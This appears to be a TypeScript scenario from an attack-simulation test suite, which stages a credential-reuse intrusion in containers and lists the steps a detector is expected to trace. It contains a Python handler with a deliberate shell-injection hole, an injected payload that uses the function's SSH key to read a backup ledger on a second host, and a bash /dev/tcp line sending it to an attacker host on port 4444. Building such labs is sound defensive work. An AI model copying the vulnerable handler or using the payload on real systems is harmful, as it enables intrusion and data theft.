/**
 * A function keeps its results on another host over SSH. By an injected command an attacker has the function's key used
 * for something else: to read a backup on that host, and to send it away from there.
 */
import type { Host, Scenario } from '../scenario.ts';
import { functionSteps, gateway, gatewayHost, pythonFunction } from '../service/functions.ts';
import {
  addSshServer,
  keyOnce,
  sessionOf,
  sessionSteps,
  sshPackages,
  sshTo,
  tellSession,
  withSsh,
  writePrivate,
} from '../service/ssh.ts';
import { attacker, client } from '../stage.ts';

const place = `${attacker}:4444`;
const address = '10.77.0.42';
const vault = '10.77.0.43';
const path = '/function/archive';
const notes = ['alpha', 'beta', 'gamma', 'delta'];
const ssh = sshTo(vault, '/srv/key').join(' ');
const handler = `import logging, subprocess

def handle(body):
    name = body.decode()
    logging.info("archiving %s", name)
    command = f"tar -C /srv/notes -c {name} | ${ssh} 'tar -C /srv/archive -x'"
    return subprocess.run(command, shell=True, check=True, capture_output=True, text=True).stdout
`;
const files = Object.fromEntries(notes.map((name) => [`srv/notes/${name}`, `${name}\n`]));
const key = keyOnce();
const theft = `${tellSession} cat /srv/backup/ledger >/tmp/.l; bash -c "cat /tmp/.l >/dev/tcp/${attacker}/4444"`;

const vaultHost: Host = {
  name: 'vault',
  address: vault,
  prepare(container) {
    addSshServer(container, key());
    container.write('srv/backup/ledger', 'the ledger of all accounts\n');
    container.write('srv/archive/readme', 'what functions keep here\n');
  },
  command: () => withSsh(['/usr/bin/sleep', 'infinity']),
  ports: [22],
};
const archive = pythonFunction('archive', address, handler, files);
const archiveHost: Host = {
  ...archive,
  prepare(container) {
    archive.prepare(container);
    writePrivate(container, 'srv/key', key());
  },
};

export const credentialReuse: Scenario = {
  name: 'credential-reuse',
  title: `a function's key is used to log in to a second host, whose backup is sent to the attacker from there`,
  packages: ['nginx', 'python3', ...sshPackages],
  hosts: [vaultHost, archiveHost, gatewayHost({ archive: address })],
  load: {
    visits: notes.map((name) => ({
      weight: 1,
      requests: [{ to: [gateway, 80], method: 'POST', path, body: name, status: [200] }],
    })),
    chores: [{ host: 'vault', command: ['/bin/sh', '-c', 'wc -c /srv/backup/ledger; ls /srv/archive'] }],
  },
  async attack(stage) {
    await stage.outside.listen(attacker, 4444);
    const body = `alpha; ${ssh} '${theft}'; tar -C /srv/notes -c beta`;
    const asked = await stage.outside.browser(client).ask(gateway, 80, { method: 'POST', path, body });
    const [loot] = await stage.outside.received(attacker, 4444);
    if (!loot?.text.includes('the ledger')) throw new Error(`nothing was stolen: ${asked.body}`);
    return {
      symptom: place,
      also: ['/tmp/.l'],
      rootCause: { kind: 'connection', from: asked.client, to: `${gateway}:80` },
      steps: [
        ...functionSteps('archive', asked),
        {
          what: 'its shell',
          at: { kind: 'process', container: 'archive', words: 'tar -C /srv/notes -c alpha; ssh' },
        },
        { what: 'the key', at: { kind: 'file', path: '/srv/key' } },
        {
          what: 'the SSH client',
          at: { kind: 'process', container: 'archive', words: `root@${vault} echo; echo` },
        },
        ...sessionSteps('vault', sessionOf(asked.body)),
        {
          what: 'it reads the ledger',
          at: { kind: 'process', container: 'vault', words: 'cat /srv/backup/ledger' },
        },
        { what: 'the ledger', at: { kind: 'file', path: '/srv/backup/ledger' } },
        { what: 'its copy', at: { kind: 'file', path: '/tmp/.l' } },
        { what: 'it reads the copy', at: { kind: 'process', container: 'vault', words: 'cat /tmp/.l' } },
        { what: 'the loot is sent away', at: { kind: 'connection', from: vault, to: place } },
      ],
    };
  },
};
